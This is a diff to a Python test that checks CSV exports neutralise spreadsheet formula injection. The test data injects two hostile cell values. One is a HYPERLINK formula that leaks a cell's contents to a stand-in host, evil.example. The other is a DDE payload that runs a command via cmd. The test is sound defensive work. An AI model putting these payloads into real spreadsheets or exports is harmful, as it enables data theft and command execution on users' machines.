@@ -102,8 +102,8 @@ def test_formula_like_cells_are_neutralised_in_every_published_csv(tmp_path):
     book = make_book(tmp_path / "book")
     path = book / "data/observations.csv"
     path.write_text(path.read_text(encoding="utf-8").replace(
-        ",ok,true,\n", ',ok,true,"=HYPERLINK(""https://evil.example/?leak=""&A3,""Source"")"\n', 1)
-        .replace(",ok,false,\n", ",ok,false,@SUM(1+1)*cmd|' /C calc'!A0\n", 1), encoding="utf-8")
+        ",ok,true,,\n", ',ok,true,"=HYPERLINK(""https://evil.example/?leak=""&A3,""Source"")",\n', 1)
+        .replace(",ok,false,,\n", ",ok,false,@SUM(1+1)*cmd|' /C calc'!A0,\n", 1), encoding="utf-8")
     data = load(book)
     edition = max(data.editions.values(), key=lambda e: e.year)
     measure_csv = downloads.measure_csv(data, edition, data.measure("destitution"))
